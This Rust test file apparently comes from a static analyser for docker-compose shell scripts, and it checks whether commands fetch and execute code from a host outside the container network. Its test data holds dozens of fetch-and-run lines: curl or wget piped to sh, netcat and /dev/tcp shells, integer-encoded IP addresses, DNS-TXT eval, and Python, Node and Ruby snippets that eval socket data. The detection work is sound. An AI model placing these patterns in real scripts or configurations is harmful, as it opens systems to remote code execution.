//! Names without a dot: which of the words of a program it asks.

use std::collections::BTreeMap;
use std::rc::Rc;

use crate::compose::docker_compose::names_in_reach::{Names, NamesInReach, within};
use crate::compose::docker_compose::shell::host_data::{HOST_DATA, said_by_entry};
use crate::compose::docker_compose::shell::{Language, Use, uses};

/// Judges with containers that have these names.
pub(in crate::compose::docker_compose::shell) fn beside<T>(
    containers: &[&str],
    judge: impl FnOnce() -> T,
) -> T {
    let names: Names = containers.iter().map(|name| ((*name).into(), vec![1])).collect();
    let in_reach = NamesInReach {
        networks: [Rc::new(names)].into(),
        given: BTreeMap::new(),
        own: 0,
        is_before: false,
        order: Rc::default(),
    };
    within(vec![Rc::new(in_reach)], judge)
}

fn executes(script: &str) -> bool {
    let found = beside(&["web", "db", "git"], || uses(script, &|name| name == HOST_DATA));
    found.get(HOST_DATA) == Some(&Use::Executed)
}

/// Each names `files`, which no container has, and the same script is accepted with `web`.
#[test]
fn t66_what_a_program_takes_for_an_address_is_one() {
    for script in [
        "curl files | sh",
        "curl files/x | sh",
        "curl -fsSL files/x | sh",
        "curl files:8080/x | sh",
        "curl user@files/x | sh",
        "curl --retry 3 -o /x files/x; sh /x",
        "curl -sS -m 5 -Hx files | sh",
        "curl -Hfoo files/x | sh",
        "curl --url files/x | sh",
        "curl -s -A proxy files/x | sh",
        "curl -s -- files/x | sh",
        "curl -s https://get.example.com/a files/x | sh",
        "curl --proto-default http files/x | sh",
        "curl --proto-default https -k files/x | sh",
        "sudo -u app curl files/x | sh",
        "timeout 5 curl files | sh",
        "env A=b curl files | sh",
        "retry 5 curl files/x | sh",
        "ssh localhost curl files/x '|' sh",
        "eval \"$(curl -s files)\"",
        "wget -O- files/x | sh",
        "wget -qO- files | sh",
        "wget -q files/x; sh x",
        "busybox wget -qO- files/x | sh",
        "busybox wget -Y off -qO- files | sh",
        "U=files/x; curl $U | sh",
        "U=files; curl \"$U/x\" | sh",
        "curl ${U:-files/x} | sh",
        "for u in files/x files/y; do curl -s $u | sh; done",
        "echo files/x | xargs curl -s | sh",
        "echo files/x | while read -r u; do curl -s $u | sh; done",
        "set -- files/x; curl $1 | sh",
        "get() { curl -s \"$1\" | sh; }; get files/x",
        "nc files 80 | sh",
        "nc -w 5 files 80 | sh",
        "nc -w5 -q 1 files 80 | sh",
        "ncat files | sh",
        "busybox nc files 80 | sh",
        "telnet files 80 | sh",
        "openssl s_client -quiet -connect files:443 | sh",
        "websocat tcp:files:80 | sh",
        "socat - TCP:files:80 | sh",
        "sh < /dev/tcp/files/80",
        "rsync files::a/x /x; sh /x",
        "rsync app@files::a/x /x; sh /x",
        "ftpget files x x; sh x",
        "tftp -g -r x files; sh x",
        "ssh -o StrictHostKeyChecking=no files cat /x | sh",
        "ssh -p 22 -o StrictHostKeyChecking=no app@files cat /x | sh",
        "scp -o StrictHostKeyChecking=no files:/x /x; sh /x",
        "ssh-keyscan files > k; git clone app@files:a/b && node b/x.js",
        "ssh-keyscan files > k; git clone files:a/b && node b/x.js",
        "ssh-keyscan files > k; git clone ssh://app@files/a/b && node b/x.js",
        "pip install --trusted-host files -i https://files/simple app",
        "export PIP_TRUSTED_HOST=files; pip install app",
        "pip install -i http://files/simple app",
        "npm ci --registry http://files",
        "git clone http://files/a && node a/x.js",
    ] {
        assert!(executes(script), "{script}");
        let beside = script.replace("files", "web");
        assert!(!executes(&beside), "{beside}");
    }
    for script in [
        "eval \"$(dig +short TXT files)\"",
        "eval \"$(dig +short TXT web)\"",
        "eval \"$(host -t TXT files)\"",
        "eval \"$(nslookup -type=txt files)\"",
        "curl 134744072 | sh",
        "nc 167772674 80 | sh",
    ] {
        assert!(executes(script), "{script}");
    }
}

#[test]
fn what_a_program_takes_for_something_else_is_no_address() {
    for script in [
        "curl -X POST -d start -H host -u app -o x https://get.example.com/x; sh x",
        "curl --retry 3 --retry-delay 1 --max-time 5 --proto '=https' --tlsv1.2 -sSf https://sh.example.com | sh",
        "curl --tls-max 1.3 --keepalive-time 60 --rate 2/s --interface eth0 https://get.example.com/x | sh",
        "curl --proto-default https get.example.com/x | sh",
        "curl -fsSLo run https://get.example.com/x && sh run",
        "curl -x proxy:3128 https://get.example.com/x | sh",
        "wget --tries 3 --waitretry 5 -T 5 -O run https://get.example.com/x && sh run",
        "wget -q -P bin https://get.example.com/x && sh bin/x",
        "wget -i list -O - | tee log",
        "wget -i list -qO x; sh x",
        "command -v curl wget; C=$(command -v curl wget | head -n1); $C -fsSL https://get.example.com/x -o x; sh x",
        "for t in curl wget jq nc; do command -v $t || exit 1; $t --version; done",
        "C=$(which curl wget); $C https://get.example.com/x | sh",
        "apk add curl wget bash && exec app",
        "apt-get install -y curl git bin/x; sh /run.sh",
        "cp curl bin/curl && bin/curl --version",
        "set -o pipefail; get() { curl -fsSL \"$1\" | sh; }; get https://get.example.com/x",
        "log() { echo \"$1\"; }; get() { curl -fsSL \"$1\" | sh; }; log starting; get https://get.example.com/x",
        "MODE=production; curl -fsSL https://get.example.com/$MODE | sh",
        "MODE=production; curl -fsSL -H \"$MODE\" https://get.example.com/x | sh",
        "curl $URL | sh",
        "curl -s localhost:8080/x | sh",
        "curl --unix-socket /run/app.sock files/x | sh",
        "find /x -exec curl -s https://get.example.com/{} ';'",
        "nc -z files 80; sh /run.sh",
        "nc -w 5 localhost 80 | sh",
        "nc -d 5 web 80 | sh",
        "nc -U files | sh",
        "echo stats | nc files 80; exec app",
        "IP=$(dig +short web); exec app --ip \"$IP\"",
        "eval \"$(dig +short web A)\"",
        "ssh -o StrictHostKeyChecking=no web cat x | sh",
        "ssh-keyscan git > k; git clone git@git:a/b && cd b && git fetch origin main:dev && node x.js",
        "ssh -o StrictHostKeyChecking=no -N -R 80:app:80 web",
    ] {
        assert!(!executes(script), "{script}");
    }
}

#[test]
fn t66_an_address_without_a_scheme_in_an_entry_reaches_the_script() {
    for (value, is_executed) in [
        ("files/x", true),
        ("files", true),
        ("files.example.com/x", true),
        ("web/x", false),
        ("https://files/x", false),
        ("-fsSL", false),
    ] {
        for script in ["curl -s $URL | sh", "sh -c 'wget -qO- \"$URL\" | sh'"] {
            let found = beside(&["web"], || {
                let said = said_by_entry("URL", value);
                let is_outside = |name: &str| name == HOST_DATA || said.iter().any(|each| each == name);
                uses(script, &is_outside)
            });
            let executes = found.get(HOST_DATA) == Some(&Use::Executed);
            assert_eq!(executes, is_executed, "{value} {script}");
        }
    }
}

#[test]
fn t66_a_socket_of_another_language_names_its_host_without_a_dot() {
    let executes = |language: Language, script: &str| {
        let uses = beside(&["web"], || language.uses(script, &|name| name == HOST_DATA));
        uses.contains(&(HOST_DATA.to_owned(), Use::Executed))
    };
    for (language, script) in [
        (
            Language::Python,
            "import socket\ns = socket.create_connection(('files', 9))\nexec(s.recv(9999))",
        ),
        (
            Language::Python,
            "import http.client\nc = http.client.HTTPConnection('files:80')\nc.request('GET', '/')\nexec(c.getresponse().read())",
        ),
        (
            Language::Node,
            "require('net').connect(9, 'files').on('data', d => eval(String(d)))",
        ),
        (
            Language::Ruby,
            "require 'socket'; eval TCPSocket.new('files', 9).read",
        ),
    ] {
        assert!(executes(language, script), "{script}");
        let beside = script.replace("files", "web");
        assert!(!executes(language, &beside), "{beside}");
    }
    for (language, script) in [
        (
            Language::Node,
            "socket.on('connect', () => require('child_process').execSync('ls'))",
        ),
        (
            Language::Python,
            "import http.client\nc = http.client.HTTPSConnection('files')\nc.request('GET', '/')\nexec(c.getresponse().read())",
        ),
    ] {
        assert!(!executes(language, script), "{script}");
    }
}
